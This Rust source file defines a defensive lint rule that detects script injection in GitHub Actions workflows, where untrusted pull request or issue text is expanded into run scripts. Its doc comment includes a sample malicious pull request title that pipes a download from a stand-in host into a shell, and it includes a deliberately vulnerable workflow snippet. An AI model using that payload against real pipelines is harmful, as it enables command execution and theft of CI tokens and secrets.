use super::yaml_util::is_workflow;
use vibeguard_code::lang::Lang;
use vibeguard_code::rule::{CodeFile, CodeRule, Hit, Meta};
use vibeguard_code::{code_rule, lazy_regex};
use vibeguard_core::{Confidence, Severity};

code_rule! {
    /// ## What it does
    /// Flags `${{ ... }}` expressions with attacker-controlled event data (pull request and
    /// issue titles and bodies, comments, review bodies, commit messages, branch names)
    /// inside a `run:` script or an `actions/github-script` `script:`.
    ///
    /// ## Why is this bad?
    /// Expressions are substituted into the script text before the shell runs it: a pull
    /// request titled `"; curl evil.sh | sh; echo "` runs commands in the job, with its
    /// token and secrets (CWE-78, CWE-94).
    ///
    /// ## Example
    /// ```text
    /// - run: echo "${{ github.event.pull_request.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```text
    /// - run: echo "$TITLE"
    ///   env:
    ///     TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ActionsScriptInjection
}

static META: Meta = Meta {
    id: "github-actions/script-injection",
    title: "Untrusted event data spliced into a script",
    cwe: &[78, 94],
    severity: Severity::High,
    confidence: Confidence::High,
    message: "attacker-controlled event data is expanded into a script; pass it through an environment variable",
    langs: &[Lang::Yaml],
    keywords: &["${{"],
};

impl CodeRule for ActionsScriptInjection {
    fn meta(&self) -> &'static Meta {
        &META
    }
    fn doc(&self) -> &'static str {
        Self::DOC
    }
    fn check(&self, file: &CodeFile<'_>, out: &mut Vec<Hit>) {
        if !is_workflow(file.path) {
            return;
        }
        let untrusted = lazy_regex!(
            r"\$\{\{[^}]*\b(?:github\.event\.(?:pull_request\.(?:title|body|head\.ref|head\.label)|issue\.(?:title|body)|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|head_commit\.(?:message|author\.name|author\.email)|commits\b[^}]*\.message|pages\b[^}]*\.page_name|workflow_run\.head_branch)|github\.head_ref)[^}]*\}\}"
        );
        let mut in_script = false;
        let mut script_indent = 0usize;
        let mut offset = 0usize;
        for line in file.text.split_inclusive('\n') {
            let indent = line.len() - line.trim_start().len();
            let trimmed = line.trim_start().trim_start_matches("- ");
            if trimmed.starts_with("run:") || trimmed.starts_with("script:") {
                in_script = true;
                script_indent = indent;
            } else if in_script && !line.trim().is_empty() && indent <= script_indent {
                in_script = false;
            }
            if in_script {
                for m in untrusted.find_iter(line) {
                    out.push(Hit {
                        start: offset + m.start(),
                        end: offset + m.end(),
                        fix: None,
                    });
                }
            }
            offset += line.len();
        }
    }
}
